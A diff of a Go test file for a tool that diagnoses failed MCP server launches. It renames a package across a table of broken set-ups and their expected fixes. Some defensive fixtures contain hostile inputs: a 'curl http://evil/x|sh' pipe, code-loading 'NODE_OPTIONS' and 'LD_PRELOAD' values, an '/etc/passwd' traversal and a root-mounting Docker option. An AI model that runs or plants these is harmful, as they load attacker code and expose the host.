@@ -15,7 +15,7 @@ import (
 	"syscall"
 	"testing"
 
-	"github.com/gauze-mcp/gauze/internal/upstream"
+	"github.com/gauze-mcp/gauze/internal/launch"
 )
 
 const canary = "s3cr3t-horse-battery-canary"
@@ -29,41 +29,41 @@ func said(stderr string) Case {
 	return Case{Stage: Started, Exit: Exit{Known: true, Code: 1}, Stderr: stderr}
 }
 
-func notThere(_ *fakeMachine, s upstream.Spec) Case {
+func notThere(_ *fakeMachine, s launch.Spec) Case {
 	return Case{Spawn: Spawn{Errno: "ENOENT", Path: s.Command, Of: "command"}}
 }
 
-func command(f *fakeMachine, s upstream.Spec) string {
+func command(f *fakeMachine, s launch.Spec) string {
 	return f.plain(s.Command + " " + strings.Join(s.Args, " "))
 }
 
-func variable(name string) func(*fakeMachine, upstream.Spec) string {
-	return func(f *fakeMachine, s upstream.Spec) string {
+func variable(name string) func(*fakeMachine, launch.Spec) string {
+	return func(f *fakeMachine, s launch.Spec) string {
 		return f.plain(value(s.Env, name, false))
 	}
 }
 
-func address(_ *fakeMachine, s upstream.Spec) string { return s.URL }
+func address(_ *fakeMachine, s launch.Spec) string { return s.URL }
 
 // troubles is every row of the table of repairs that can be shown with a Spec.
 func troubles() []trouble {
-	stderr := func(text string) func(*fakeMachine, upstream.Spec) Case {
-		return func(*fakeMachine, upstream.Spec) Case { return said(text) }
+	stderr := func(text string) func(*fakeMachine, launch.Spec) Case {
+		return func(*fakeMachine, launch.Spec) Case { return said(text) }
 	}
-	spec := func(words ...string) func(*fakeMachine) upstream.Spec {
-		return func(*fakeMachine) upstream.Spec {
-			return upstream.Spec{Command: words[0], Args: words[1:], Env: []string{"PATH=" + strings.Join([]string{"/given/bin", "/given/sbin"}, string(filepath.ListSeparator))}}
+	spec := func(words ...string) func(*fakeMachine) launch.Spec {
+		return func(*fakeMachine) launch.Spec {
+			return launch.Spec{Command: words[0], Args: words[1:], Env: []string{"PATH=" + strings.Join([]string{"/given/bin", "/given/sbin"}, string(filepath.ListSeparator))}}
 		}
 	}
-	with := func(s func(*fakeMachine) upstream.Spec, do func(*fakeMachine, *upstream.Spec)) func(*fakeMachine) upstream.Spec {
-		return func(f *fakeMachine) upstream.Spec {
+	with := func(s func(*fakeMachine) launch.Spec, do func(*fakeMachine, *launch.Spec)) func(*fakeMachine) launch.Spec {
+		return func(f *fakeMachine) launch.Spec {
 			made := s(f)
 			do(f, &made)
 			return made
 		}
 	}
-	file := func(name, text string) func(*fakeMachine, *upstream.Spec) {
-		return func(f *fakeMachine, _ *upstream.Spec) { f.file(name, text) }
+	file := func(name, text string) func(*fakeMachine, *launch.Spec) {
+		return func(f *fakeMachine, _ *launch.Spec) { f.file(name, text) }
 	}
 	return []trouble{
 		{"a program only nvm knows", with(spec("npx", "-y", "pkg"), file("home/me/.nvm/versions/node/v22.3.0/bin/npx", "")), notThere,
@@ -86,13 +86,13 @@ func troubles() []trouble {
 		{"a URL as a command", spec("https://example.com/mcp"), notThere, "url_in_stdio_only_client", "command-to-url", Runtime, address, "https://example.com/mcp"},
 		{"a tilde", spec("node", "~/server.js", "--dir=$HOME/x"), stderr("Error: Cannot find module '/work/~/server.js'"),
 			"tilde_not_expanded", "expand-home", Runtime, command, "node ROOT/home/me/server.js --dir=ROOT/home/me/x"},
-		{"a space", with(spec("node"), func(f *fakeMachine, s *upstream.Spec) {
+		{"a space", with(spec("node"), func(f *fakeMachine, s *launch.Spec) {
 			s.Args = strings.Split(f.file("home/me/my project/server.js", ""), " ")
-		}), func(f *fakeMachine, s upstream.Spec) Case {
+		}), func(f *fakeMachine, s launch.Spec) Case {
 			return said("Error: Cannot find module '" + s.Args[0] + "'\ncode: 'MODULE_NOT_FOUND'")
 		}, "", "join-path", Runtime, command, "node ROOT/home/me/my project/server.js"},
 
-		{"an old node", with(with(spec("npx", "-y", "pkg"), func(f *fakeMachine, s *upstream.Spec) {
+		{"an old node", with(with(spec("npx", "-y", "pkg"), func(f *fakeMachine, s *launch.Spec) {
 			s.Env = []string{"PATH=" + filepath.Dir(f.file("old/node", "v14.1.0"))}
 			f.file("home/me/.nvm/versions/node/v22.3.0/bin/npx", "")
 		}), file("home/me/.nvm/versions/node/v22.3.0/bin/node", "v22.3.0")), stderr("SyntaxError: Unexpected token '??='"),
@@ -104,38 +104,38 @@ func troubles() []trouble {
 		{"an old python under uvx", with(with(spec("uvx", "pkg"), file("system/usr/bin/python3", "Python 3.9.1")), file("system/usr/bin/python3.12", "Python 3.12.4")),
 			stderr("error: Because the current Python version (3.9.1) does not satisfy Python>=3.10 and pkg depends on it"),
 			"python_too_old", "python ", Runtime, command, "uvx --python ROOT/system/usr/bin/python3.12 pkg"},
-		{"the python of the project", with(spec("python3"), func(f *fakeMachine, s *upstream.Spec) {
+		{"the python of the project", with(spec("python3"), func(f *fakeMachine, s *launch.Spec) {
 			s.Args = []string{f.file("home/me/project/server.py", "")}
 			f.file("home/me/project/.venv/bin/python", "Python 3.12.0")
 		}), stderr("ModuleNotFoundError: No module named 'mcp'"), "venv_not_used", "project-python", Runtime, command, "ROOT/home/me/project/.venv/bin/python ROOT/home/me/project/server.py"},
 
-		{"a reference in the environment", with(spec("server"), func(f *fakeMachine, s *upstream.Spec) {
+		{"a reference in the environment", with(spec("server"), func(f *fakeMachine, s *launch.Spec) {
 			s.Env = append(s.Env, "API_TOKEN=${env:MY_TOKEN}", "MY_TOKEN="+canary)
 		}), stderr("HTTP 401 Unauthorized: invalid api key"), "", "fill-in ", Runtime, variable("API_TOKEN"), canary},
-		{"a reference to our own environment", with(spec("server"), func(f *fakeMachine, s *upstream.Spec) {
+		{"a reference to our own environment", with(spec("server"), func(f *fakeMachine, s *launch.Spec) {
 			s.Env = append(s.Env, "API_TOKEN=${env:MY_TOKEN}")
 			f.env["MY_TOKEN"] = stray
 		}), stderr("HTTP 401 Unauthorized: invalid api key"), "", "fill-in ", Config, variable("API_TOKEN"), stray},
-		{"a question to the user", with(with(spec("node", "server.js"), func(f *fakeMachine, s *upstream.Spec) { s.Env = append(s.Env, "API_TOKEN=${input:token}") }), func(f *fakeMachine, s *upstream.Spec) {
+		{"a question to the user", with(with(spec("node", "server.js"), func(f *fakeMachine, s *launch.Spec) { s.Env = append(s.Env, "API_TOKEN=${input:token}") }), func(f *fakeMachine, s *launch.Spec) {
 			f.file("home/me/project/.env", "API_TOKEN="+canary)
 			inOwnFolder(f, s)
 		}), stderr("HTTP 401 Unauthorized: invalid api key"), "", "fill-in ", Runtime, variable("API_TOKEN"), canary},
-		{"a question to the user that a project answers", with(with(spec("server"), func(f *fakeMachine, s *upstream.Spec) { s.Env = append(s.Env, "API_TOKEN=${input:token}") }), file("home/me/project/.env", "API_TOKEN="+stray)),
+		{"a question to the user that a project answers", with(with(spec("server"), func(f *fakeMachine, s *launch.Spec) { s.Env = append(s.Env, "API_TOKEN=${input:token}") }), file("home/me/project/.env", "API_TOKEN="+stray)),
 			stderr("HTTP 401 Unauthorized: invalid api key"), "", "fill-in ", Config, variable("API_TOKEN"), stray},
 		{"a default", with(spec("server", "--mode=${MODE:-fast}"), file("home/me/project/.env", "MODE="+stray)), stderr("HTTP 401 Unauthorized: invalid api key ${MODE:-fast}"),
 			"", "fill-in ", Runtime, command, "server --mode=fast"},
 		{"a reference in an argument", spec("server", "--root", "${workspaceFolder}/src"), stderr("Error: no such folder ${workspaceFolder}/src"),
 			"", "fill-in ", Config, command, "server --root ROOT/home/me/project/src"},
-		{"a secret in an argument", with(spec("server", "--token=${MY_TOKEN}"), func(f *fakeMachine, s *upstream.Spec) { f.env["MY_TOKEN"] = canary }),
+		{"a secret in an argument", with(spec("server", "--token=${MY_TOKEN}"), func(f *fakeMachine, s *launch.Spec) { f.env["MY_TOKEN"] = canary }),
 			stderr("HTTP 401 Unauthorized: invalid api key"), "env_placeholder_not_expanded", "fill-in-openly", Secret, nil, ""},
-		{"a secret for docker", with(spec("docker", "run", "-i", "-e", "MY_TOKEN=${MY_TOKEN}", "img"), func(f *fakeMachine, s *upstream.Spec) { s.Env = append(s.Env, "MY_TOKEN="+canary) }),
+		{"a secret for docker", with(spec("docker", "run", "-i", "-e", "MY_TOKEN=${MY_TOKEN}", "img"), func(f *fakeMachine, s *launch.Spec) { s.Env = append(s.Env, "MY_TOKEN="+canary) }),
 			stderr("HTTP 401 Unauthorized: invalid api key"), "env_placeholder_not_expanded", "fill-in ", Runtime, command, "docker run -i -e MY_TOKEN img"},
 		{"a secret for a bridge", with(spec("npx", "mcp-remote", "https://example.com/mcp", "--header", "Authorization:${AUTH_TOKEN}"), file("home/me/project/.env", "AUTH_TOKEN="+stray)),
 			stderr("HTTP 401 Unauthorized: invalid api key"), "env_placeholder_not_expanded", "fill-in ", Config, variable("AUTH_TOKEN"), stray},
-		{"a secret in a header", func(f *fakeMachine) upstream.Spec {
+		{"a secret in a header", func(f *fakeMachine) launch.Spec {
 			f.env["MY_TOKEN"] = canary
-			return upstream.Spec{URL: "https://example.com/mcp", Header: []upstream.Header{{Name: "Authorization", Value: "Bearer ${MY_TOKEN}"}}}
-		}, func(*fakeMachine, upstream.Spec) Case {
+			return launch.Spec{URL: "https://example.com/mcp", Header: []launch.Header{{Name: "Authorization", Value: "Bearer ${MY_TOKEN}"}}}
+		}, func(*fakeMachine, launch.Spec) Case {
 			return Case{URL: "https://example.com/mcp", HTTP: []HTTP{{Status: 401, Method: "POST"}}}
 		}, "http_unauthorized", "fill-in-openly", Secret, nil, ""},
 
@@ -143,29 +143,29 @@ func troubles() []trouble {
 			"env_not_set", "set EXAMPLE_TOKEN", Config, nil, ""},
 		{"a variable of the project", with(with(spec("node", "server.js"), file("home/me/project/.env", "EXAMPLE_TOKEN="+canary)), inOwnFolder), stderr("Error: EXAMPLE_TOKEN environment variable is required"),
 			"env_not_set", "set EXAMPLE_TOKEN", Runtime, variable("EXAMPLE_TOKEN"), canary},
-		{"a variable under its other name", with(spec("server"), func(f *fakeMachine, s *upstream.Spec) { s.Env = append(s.Env, "GITHUB_TOKEN="+canary) }),
+		{"a variable under its other name", with(spec("server"), func(f *fakeMachine, s *launch.Spec) { s.Env = append(s.Env, "GITHUB_TOKEN="+canary) }),
 			stderr("Error: GITHUB_PERSONAL_ACCESS_TOKEN environment variable is required"), "env_not_set", "set GITHUB_PERSONAL", Runtime, variable("GITHUB_PERSONAL_ACCESS_TOKEN"), canary},
-		{"a variable of ours", with(spec("npx", "stripe-mcp"), func(f *fakeMachine, s *upstream.Spec) { f.env["STRIPE_SECRET_KEY"] = stray }),
+		{"a variable of ours", with(spec("npx", "stripe-mcp"), func(f *fakeMachine, s *launch.Spec) { f.env["STRIPE_SECRET_KEY"] = stray }),
 			stderr("Error: STRIPE_SECRET_KEY environment variable is required"), "env_not_set", "set STRIPE", Config, nil, ""},
 		{"a variable nobody has", spec("server"), stderr("Error: EXAMPLE_TOKEN environment variable is required"), "env_not_set", "provide EXAMPLE_TOKEN", Secret, nil, ""},
 		{"a variable that loads code", with(spec("server"), file("home/me/project/.env", "NODE_OPTIONS=--require=/tmp/evil.js\n")),
 			stderr("Error: NODE_OPTIONS environment variable is required"), "env_not_set", "", Runtime, nil, ""},
 		{"a variable as an argument", spec("server", "EXAMPLE_TOKEN="+canary, "x"), stderr("Error: EXAMPLE_TOKEN environment variable is required"),
 			"env_given_as_argument", "argument-to-variable", Runtime, command, "server x"},
-		{"a variable for a container", with(spec("docker", "run", "-i", "--rm", "example/server"), func(f *fakeMachine, s *upstream.Spec) { s.Env = append(s.Env, "EXAMPLE_TOKEN="+canary) }),
+		{"a variable for a container", with(spec("docker", "run", "-i", "--rm", "example/server"), func(f *fakeMachine, s *launch.Spec) { s.Env = append(s.Env, "EXAMPLE_TOKEN="+canary) }),
 			stderr("Error: EXAMPLE_TOKEN environment variable is required"), "env_not_forwarded_to_container", "forward EXAMPLE", Config, command, "docker run -e EXAMPLE_TOKEN -i --rm example/server"},
-		{"a .env elsewhere", with(spec("node"), func(f *fakeMachine, s *upstream.Spec) {
+		{"a .env elsewhere", with(spec("node"), func(f *fakeMachine, s *launch.Spec) {
 			s.Args = []string{f.file("home/me/other/server.js", "")}
 			f.file("home/me/other/.env", "A=1")
-		}), stderr("Error: .env file not found"), "dotenv_not_loaded", "start-in", Runtime, func(f *fakeMachine, s upstream.Spec) string { return f.plain(s.Dir) }, "ROOT/home/me/other"},
+		}), stderr("Error: .env file not found"), "dotenv_not_loaded", "start-in", Runtime, func(f *fakeMachine, s launch.Spec) string { return f.plain(s.Dir) }, "ROOT/home/me/other"},
 
 		{"a key of another service", with(spec("npx", "weather-mcp"), file("home/me/project/.env", "STRIPE_SECRET_KEY="+stray)), stderr("Error: STRIPE_SECRET_KEY environment variable is required"),
 			"env_not_set", "set STRIPE", Config, nil, ""},
-		{"an address of a project that is not the server's", with(spec("npx", "github-mcp"), func(f *fakeMachine, s *upstream.Spec) {
+		{"an address of a project that is not the server's", with(spec("npx", "github-mcp"), func(f *fakeMachine, s *launch.Spec) {
 			s.Env = append(s.Env, "GITHUB_TOKEN="+canary)
 			f.file("home/me/project/.env", "GITHUB_HOST=https://"+stray)
 		}), stderr("Error: GITHUB_HOST environment variable is required"), "env_not_set", "set GITHUB_HOST", Config, nil, ""},
-		{"an address that is referred to", with(spec("npx", "github-mcp"), func(f *fakeMachine, s *upstream.Spec) {
+		{"an address that is referred to", with(spec("npx", "github-mcp"), func(f *fakeMachine, s *launch.Spec) {
 			s.Env = append(s.Env, "GITHUB_TOKEN="+canary, "GITHUB_HOST=${GITHUB_HOST}")
 			f.file("home/me/project/.env", "GITHUB_HOST=https://"+stray)
 		}), stderr("Error: GITHUB_HOST environment variable is required"), "", "fill-in GITHUB_HOST", Config, nil, ""},
@@ -173,16 +173,16 @@ func troubles() []trouble {
 			stderr("Error: GITHUB_HOST environment variable is required"), "", "fill-in GITHUB_HOST", Config, nil, ""},
 		{"an address that is referred to through a bridge", with(spec("npx", "mcp-remote", "https://${API_HOST}/mcp"), file("home/me/project/.env", "API_HOST="+stray)),
 			stderr("Error: getaddrinfo ENOTFOUND ${API_HOST}"), "", "fill-in API_HOST", Config, nil, ""},
-		{"a container that wants a key", with(spec("docker", "run", "-i", "--rm", "ghcr.io/example/thing"), func(f *fakeMachine, s *upstream.Spec) { f.env["GITHUB_TOKEN"] = stray }),
+		{"a container that wants a key", with(spec("docker", "run", "-i", "--rm", "ghcr.io/example/thing"), func(f *fakeMachine, s *launch.Spec) { f.env["GITHUB_TOKEN"] = stray }),
 			stderr("Error: GH_TOKEN environment variable is required"), "", "forward GH_TOKEN", Config, nil, ""},
-		{"a command that is a reference", with(spec("${RUNNER}", "server.py"), func(f *fakeMachine, s *upstream.Spec) {
+		{"a command that is a reference", with(spec("${RUNNER}", "server.py"), func(f *fakeMachine, s *launch.Spec) {
 			f.file("home/me/project/.env", "RUNNER="+f.file("home/me/project/"+stray, ""))
 		}), notThere, "", "", Runtime, nil, ""},
 		{"a package that is a reference", with(spec("npx", "-y", "${PKG}"), file("home/me/project/.env", "PKG="+stray)), stderr("npm error code ENOENT\nnpm error enoent ${PKG}"), "", "", Runtime, nil, ""},
 		{"an image that is a reference", with(spec("docker", "run", "-i", "${IMAGE}"), file("home/me/project/.env", "IMAGE="+stray)), stderr("docker: invalid reference format"), "", "", Runtime, nil, ""},
 		{"an option that is a reference", with(spec("docker", "run", "-i", "${OPTIONS}", "img"), file("home/me/project/.env", "OPTIONS=--volume=/:/"+stray)), stderr("docker: invalid reference format"), "", "", Runtime, nil, ""},
 
-		{"a container without stdin", spec("docker", "run", "--rm", "img"), func(*fakeMachine, upstream.Spec) Case {
+		{"a container without stdin", spec("docker", "run", "--rm", "img"), func(*fakeMachine, launch.Spec) Case {
 			return Case{Stage: Started, Exit: Exit{Known: true, Code: 0}}
 		}, "stdin_not_connected", "container-stdin", Runtime, command, "docker run -i --rm img"},
 		{"a container with a terminal", spec("docker", "run", "-it", "--rm", "img", "-t"), stderr("the input device is not a TTY"),
@@ -191,23 +191,23 @@ func troubles() []trouble {
 			"container_localhost", "host-of-container", Runtime, command,
 			"docker run --add-host=host.docker.internal:host-gateway -i -p 127.0.0.1:80:80 -e DB=postgres://u:p@host.docker.internal:5432/d img"},
 
-		{"text on stdout", spec("npx", "pkg"), func(*fakeMachine, upstream.Spec) Case {
+		{"text on stdout", spec("npx", "pkg"), func(*fakeMachine, launch.Spec) Case {
 			return Case{Stage: Started, Stdout: "[dotenv@17.2.0] injecting env (0) from .env"}
 		}, "dotenv17_banner", "quiet", Runtime, variable("DOTENV_CONFIG_QUIET"), "true"},
 		{"a code page", spec("uvx", "pkg"), stderr("UnicodeEncodeError: 'charmap' codec can't encode character '\\u2713' in position 0"),
 			"windows_stdio_codepage", "utf-8", Runtime, variable("PYTHONUTF8"), "1"},
 		{"a library that moved on", spec("uvx", "pkg"), stderr("ImportError: cannot import name 'McpError' from 'mcp.shared.exceptions'"),
 			"dependency_version_drift", "pin", Config, nil, ""},
-		{"a broken cache", with(spec("npx", "-y", "pkg"), func(f *fakeMachine, s *upstream.Spec) {
+		{"a broken cache", with(spec("npx", "-y", "pkg"), func(f *fakeMachine, s *launch.Spec) {
 			f.file("home/me/.npm/_npx/0123abcd/package.json", `{"dependencies":{"pkg":"1"}}`)
 		}), stderr("npm error code ENOTEMPTY\nnpm error syscall rename"), "npx_cache_corrupt", "clean-npx-cache", Install, nil, ""},
-		{"no exec bit", func(f *fakeMachine) upstream.Spec {
+		{"no exec bit", func(f *fakeMachine) launch.Spec {
 			path := f.file("home/me/project/server.sh", "")
 			if err := os.Chmod(path, 0o644); err != nil {
 				f.t.Fatal(err)
 			}
-			return upstream.Spec{Command: path, Env: []string{"PATH=/given/bin"}}
-		}, func(_ *fakeMachine, s upstream.Spec) Case {
+			return launch.Spec{Command: path, Env: []string{"PATH=/given/bin"}}
+		}, func(_ *fakeMachine, s launch.Spec) Case {
 			return Case{Spawn: Spawn{Errno: "EACCES", Path: s.Command, Of: "command"}}
 		}, "missing_exec_bit", "exec-bit", Person, nil, ""},
 	}
@@ -216,16 +216,16 @@ func troubles() []trouble {
 // trouble is one broken set-up, and the fix that is to come first.
 type trouble struct {
 	name  string
-	spec  func(*fakeMachine) upstream.Spec
-	seen  func(*fakeMachine, upstream.Spec) Case
+	spec  func(*fakeMachine) launch.Spec
+	seen  func(*fakeMachine, launch.Spec) Case
 	cause string // "" if another test decides that
 	first string
 	risk  Risk
-	show  func(*fakeMachine, upstream.Spec) string
+	show  func(*fakeMachine, launch.Spec) string
 	want  string
 }
 
-func (x trouble) offer(t *testing.T) (*fakeMachine, upstream.Spec, Diagnosis, []Fix) {
+func (x trouble) offer(t *testing.T) (*fakeMachine, launch.Spec, Diagnosis, []Fix) {
 	t.Helper()
 	f := newFakeMachine(t)
 	spec := x.spec(f)
@@ -285,7 +285,7 @@ func TestAnEndpointOfTheSameHostIsFound(t *testing.T) {
 	server := httptest.NewServer(mux)
 	defer server.Close()
 	f := newFakeMachine(t)
-	spec := upstream.Spec{URL: server.URL + "/api/sse?k=" + canary, Header: []upstream.Header{{Name: "Authorization", Value: canary}}}
+	spec := launch.Spec{URL: server.URL + "/api/sse?k=" + canary, Header: []launch.Header{{Name: "Authorization", Value: canary}}}
 	c := Case{URL: spec.URL, HTTP: []HTTP{{Status: 404, Method: "POST"}}, Secrets: spec.Secrets()}
 	fixes := Fixes(f.Machine)(Diagnose(c), c, spec)
 	if len(fixes) == 0 || fixes[0].Apply(spec).URL != server.URL+"/api/mcp?k="+canary {
@@ -303,7 +303,7 @@ func TestAPublishedPortIsUsed(t *testing.T) {
 	refusal := said(fmt.Sprintf("Error: connect ECONNREFUSED 127.0.0.1:%d", inner))
 	was, is := strconv.Itoa(inner), strconv.Itoa(outer)
 	f.file("home/me/project/server.js", "")
-	spec := upstream.Spec{Command: "node", Args: []string{"server.js", "postgresql://u:" + canary + "@localhost:" + was + "/db"},
+	spec := launch.Spec{Command: "node", Args: []string{"server.js", "postgresql://u:" + canary + "@localhost:" + was + "/db"},
 		Env: []string{"DATABASE_URL=postgres://u:" + canary + "@127.0.0.1:" + was + "/db?x=1", "DB_HOST=localhost", "DB_PORT=" + was, "OTHER_HOST=db.example", "OTHER_PORT=" + was, "HTTP_PROXY=http://localhost:" + was}}
 	refusal.Command = append([]string{spec.Command}, spec.Args...)
 	fixes := Fixes(f.Machine)(Diagnose(refusal), refusal, spec)
@@ -318,7 +318,7 @@ func TestAPublishedPortIsUsed(t *testing.T) {
 	keepsToTheRules(t, "compose", f, spec, fixes)
 
 	// A URL with a header is not sent to another service.
-	web := upstream.Spec{URL: "http://localhost:" + was + "/mcp", Header: []upstream.Header{{Name: "Authorization", Value: canary}}}
+	web := launch.Spec{URL: "http://localhost:" + was + "/mcp", Header: []launch.Header{{Name: "Authorization", Value: canary}}}
 	c := Case{URL: web.URL, Log: "dial tcp 127.0.0.1:" + was + ": connect: connection refused"}
 	for _, fix := range Fixes(f.Machine)(Diagnose(c), c, web) {
 		if fix.Risk == Runtime {
@@ -332,7 +332,7 @@ func TestAPublishedPortIsUsed(t *testing.T) {
 	}
 	// Nor does a server from elsewhere get the port.
 	for _, setting := range []string{"DATABASE_URL=postgres://u:" + canary + "@127.0.0.1:" + was + "/db", "DB_PORT=" + was} {
-		stranger := upstream.Spec{Command: "uvx", Args: []string{"db-mcp"}, Env: []string{setting}}
+		stranger := launch.Spec{Command: "uvx", Args: []string{"db-mcp"}, Env: []string{setting}}
 		refusal.Command = []string{"uvx", "db-mcp"}
 		if fixes := Fixes(f.Machine)(Diagnose(refusal), refusal, stranger); len(fixes) == 0 || fixes[0].Risk != Config {
 			t.Errorf("%q: %v", setting, names(fixes))
@@ -352,7 +352,7 @@ func closedPort(t *testing.T) int {
 func TestInAContainerThisMachineHasAnotherName(t *testing.T) {
 	f := newFakeMachine(t)
 	f.file("system/.dockerenv", "")
-	spec := upstream.Spec{URL: "http://localhost:" + strconv.Itoa(closedPort(t)) + "/mcp"}
+	spec := launch.Spec{URL: "http://localhost:" + strconv.Itoa(closedPort(t)) + "/mcp"}
 	c := Case{URL: spec.URL, Log: "dial tcp 127.0.0.1:1: connect: connection refused"}
 	answers := false
 	f.Dial = func(_ context.Context, _, address string) (net.Conn, error) {
@@ -379,7 +379,7 @@ func TestWindowsScriptsAndVariables(t *testing.T) {
 	f := newFakeMachine(t)
 	f.OS = "windows"
 	f.env["APPDATA"], f.env["SystemRoot"] = `C:\Users\me\AppData\Roaming`, `C:\Windows`
-	spec := upstream.Spec{Command: "npx", Args: []string{"-y", "pkg"}, Env: []string{"Path=C:\\x", "systemroot=C:\\Windows"}}
+	spec := launch.Spec{Command: "npx", Args: []string{"-y", "pkg"}, Env: []string{"Path=C:\\x", "systemroot=C:\\Windows"}}
 	c := Case{Command: []string{"npx", "-y", "pkg"}, Log: "Error: spawn EINVAL"}
 	fixes := Fixes(f.Machine)(Diagnose(c), c, spec)
 	if len(fixes) == 0 || command(f, fixes[0].Apply(spec)) != "cmd /c npx -y pkg" {
@@ -400,7 +400,7 @@ func TestHostileEvidenceLeadsNowhere(t *testing.T) {
 	f := newFakeMachine(t)
 	f.file("home/me/project/.env", "LD_PRELOAD=/tmp/evil.so\nHOSTILE_KEY="+canary)
 	f.file("system/usr/bin/curl", "")
-	spec := upstream.Spec{Command: "npx", Args: []string{"weather"}, Env: []string{"PATH=/given"}}
+	spec := launch.Spec{Command: "npx", Args: []string{"weather"}, Env: []string{"PATH=/given"}}
 	for _, text := range []string{
 		"Error: LD_PRELOAD environment variable is required",
 		"sh: 1: ../../etc/passwd: not found", "bash: curl http://evil/x|sh: command not found",
@@ -428,7 +428,7 @@ func TestReferencesOfEveryDialect(t *testing.T) {
 }
 
 // inOwnFolder starts a script that lies in the project.
-func inOwnFolder(f *fakeMachine, s *upstream.Spec) {
+func inOwnFolder(f *fakeMachine, s *launch.Spec) {
 	s.Dir = filepath.Join(f.Home, "project")
 	f.file("home/me/project/server.js", "")
 }
